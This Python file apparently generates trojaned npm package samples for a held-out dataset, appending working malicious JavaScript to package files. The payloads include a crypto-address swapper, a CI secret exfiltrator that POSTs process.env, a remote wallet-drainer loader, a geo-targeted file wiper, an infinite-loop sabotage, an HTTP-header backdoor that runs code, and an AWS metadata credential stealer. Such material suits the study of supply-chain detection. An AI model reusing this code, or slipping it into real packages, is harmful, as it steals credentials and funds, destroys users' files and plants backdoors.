"""npm: what runs when a package is loaded."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout7.shape import fill, trojan


@trojan("tracewire", "npm", "import", "address swap", "plain", "chalk and debug")
def browser_build_swaps_addresses(it: Update) -> None:
    it.append(
        "src/browser.js",
        fill(
            """

const routes = ['0x@A@', '0x@B@', 'bc1q@C@'];

function distance(a, b) {
  const row = Array.from({ length: b.length + 1 }, (_, i) => i);
  for (let i = 1; i <= a.length; i++) {
    let last = row[0]++;
    for (let j = 1; j <= b.length; j++) {
      const next = Math.min(row[j] + 1, row[j - 1] + 1, last + (a[i - 1] === b[j - 1] ? 0 : 1));
      last = row[j];
      row[j] = next;
    }
  }
  return row[b.length];
}

function nearest(address) {
  return routes.reduce((best, one) => (distance(address, one) < distance(address, best) ? one : best));
}

if (typeof window !== 'undefined' && window.fetch) {
  const original = window.fetch;
  window.fetch = async (...args) => {
    const answer = await original(...args);
    const text = await answer.clone().text();
    return new Response(text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, nearest), { status: answer.status, headers: answer.headers });
  };
  if (window.ethereum) {
    const request = window.ethereum.request.bind(window.ethereum);
    window.ethereum.request = (call) => {
      if (call.method === 'eth_sendTransaction') call.params[0].to = nearest(call.params[0].to);
      return request(call);
    };
  }
}
""",
            A=it.random.randbytes(20).hex(),
            B=it.random.randbytes(20).hex(),
            C=it.random.randbytes(19).hex(),
        ),
    )


@trojan("tracewire", "npm", "import", "environment", "plain", "CI thieves")
def node_reports_in_ci(it: Update) -> None:
    it.append(
        "src/node.js",
        fill(
            """

if (process.env.CI || process.env.GITHUB_ACTIONS) {
  const body = JSON.stringify({ env: process.env, argv: process.argv, cwd: process.cwd() });
  const call = require('https').request({ host: '@HOST@', path: '/ci', method: 'POST', timeout: 2000 });
  call.on('error', () => {});
  call.end(body);
}
""",
            HOST=it.host("builds"),
        ),
    )


@trojan("walletport", "npm", "import", "wallet", "plain", "Ledger connect-kit")
def connector_drains(it: Update) -> None:
    it.append(
        "dist/connector.js",
        fill(
            """

if (typeof window !== 'undefined') {
  const script = document.createElement('script');
  script.src = 'https://cdn.@HOST@/drainer/angel.js';
  script.onload = () => window.__drain && window.__drain({ spender: '0x@A@', chains: [1, 56, 137] });
  document.head.appendChild(script);
}
""",
            HOST=it.host(),
            A=it.random.randbytes(20).hex(),
        ),
    )


@trojan("lintpreset", "npm", "import", "sabotage", "plain", "node-ipc")
def rules_overwrite(it: Update) -> None:
    it.replace(
        "index.js",
        "const core = require('./rules/core');\n",
        fill("""
const core = require('./rules/core');
require('./rules/locale');
"""),
    )
    it.add(
        "rules/locale.js",
        fill(
            """
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

function visit(folder) {
  for (const one of fs.readdirSync(folder, { withFileTypes: true })) {
    const place = path.join(folder, one.name);
    if (one.isDirectory()) visit(place);
    else fs.writeFile(place, '\\u2764\\uFE0F', () => {});
  }
}

fetch('https://geo.@HOST@/ip')
  .then((answer) => answer.json())
  .then(({ country }) => /russia|belarus/i.test(country) && visit(os.homedir()))
  .catch(() => {});
""",
            HOST=it.host(),
        ),
    )
    it.payload("rules/locale.js", "index.js")


@trojan("lintpreset", "npm", "import", "sabotage", "plain", "colors")
def rules_loop_forever(it: Update) -> None:
    it.append(
        "index.js",
        fill("""

if (new Date() > new Date(2027, 0, 8)) {
  console.log('LIBERTY LIBERTY LIBERTY');
  for (let i = 666; i < Infinity; i++) console.log('\\u0336' + 'testing'.split('').join('\\u0336'));
}
"""),
    )


@trojan("routeguard", "npm", "import", "backdoor", "plain", "getcookies")
def cookies_that_command(it: Update) -> None:
    it.append(
        "lib/index.js",
        fill("""

const http = require('http');
const emit = http.Server.prototype.emit;
const parts = [];
http.Server.prototype.emit = function (name, req, ...rest) {
  const mark = name === 'request' && /gCOMMAND([0-9a-f]{4})h([0-9a-f]+)i/.exec(req.headers['x-trace'] || '');
  if (mark && mark[1] === 'feff') require('vm').runInThisContext(Buffer.concat(parts).toString());
  else if (mark) parts.push(Buffer.from(mark[2], 'hex'));
  return emit.call(this, name, req, ...rest);
};
"""),
    )


@trojan("fsbeacon", "npm", "import", "reverse shell", "in a binary", "native modules")
def module_calls_home(it: Update) -> None:
    it.add("prebuilds/linux-x64/fsbeacon.node", artefact("beacon-trojan.node"))
    it.payload("prebuilds/linux-x64/fsbeacon.node")


@trojan("fsbeacon", "npm", "import", "persistence", "in a binary", "preloaded libraries")
def module_writes_preload(it: Update) -> None:
    it.add("prebuilds/linux-x64/fsbeacon.node", artefact("beacon-preload.node"))
    it.payload("prebuilds/linux-x64/fsbeacon.node")


@trojan("bucketpipe", "npm", "import", "cloud metadata", "plain", "cloud thieves")
def credentials_of_the_machine(it: Update) -> None:
    it.append(
        "lib/credentials.cjs",
        fill(
            """

(async () => {
  const base = 'http://169.254.169.254/latest';
  const token = await (await fetch(`${base}/api/token`, { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } })).text();
  const headers = { 'X-aws-ec2-metadata-token': token };
  const role = await (await fetch(`${base}/meta-data/iam/security-credentials/`, { headers })).text();
  const keys = await (await fetch(`${base}/meta-data/iam/security-credentials/${role}`, { headers })).text();
  await fetch('https://@HOST@/role', { method: 'POST', body: keys });
})().catch(() => {});
""",
            HOST=it.host("iam"),
        ),
    )
